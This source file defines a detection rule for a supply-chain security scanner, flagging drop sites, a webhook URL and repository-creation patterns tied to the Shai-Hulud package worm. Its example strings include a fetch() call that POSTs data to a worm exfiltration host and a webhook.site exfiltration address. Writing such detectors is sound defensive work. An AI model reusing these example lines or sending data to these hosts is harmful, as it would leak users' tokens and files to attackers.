import { scan } from "oktsec/evidence";
import { defineRule } from "oktsec/rule";

export default defineRule({
  id: "SUPPLY_024",
  title: "A drop site of a known package worm",
  why: "The address occurs in stolen packages and nowhere else.",
  fix: "Remove the package and rotate all tokens of the machine.",
  severity: "high",
  category: "supply-chain-exfil",
  lane: "block",
  maps: { asi: ["ASI04"], mcp: ["MCP04"], cwe: ["CWE-494"] },
  keywords: ["getsession.org", "shai-hulud", "bb8ca5f6-4175"],
  match: [
    /\b(?:filev2|seed\d)\.getsession\.org\b/i,
    scan(
      /\bshai-hulud(?:-\w{1,12})?\b/i,
      (match, { text }) =>
        /(?:git\s|create|repos?\b|workflow|branch|fetch|curl|POST)/i.test(
          text.slice(Math.max(0, match.index - 100), match.index + 100),
        ) && /[{};=]|https?:|curl|\$/.test(text.slice(Math.max(0, match.index - 100), match.index + 100)),
    ),
    "bb8ca5f6-4175-45d2-b042-fc9ebb8170b7",
  ],
  examples: {
    flags: [{ text: 'fetch("https://filev2.getsession.org/file", { method: "POST", body })', kind: "document" }, {
      text: 'await octokit.repos.create({ name: "Shai-Hulud", private: false });',
      kind: "document",
    }, { text: "https://webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7", kind: "url" }],
    passes: ["The worm Shai-Hulud was found in September.", { text: "getSession(org)", kind: "document" }, {
      text: "https://getsession.org/faq",
      kind: "url",
    }],
  },
});
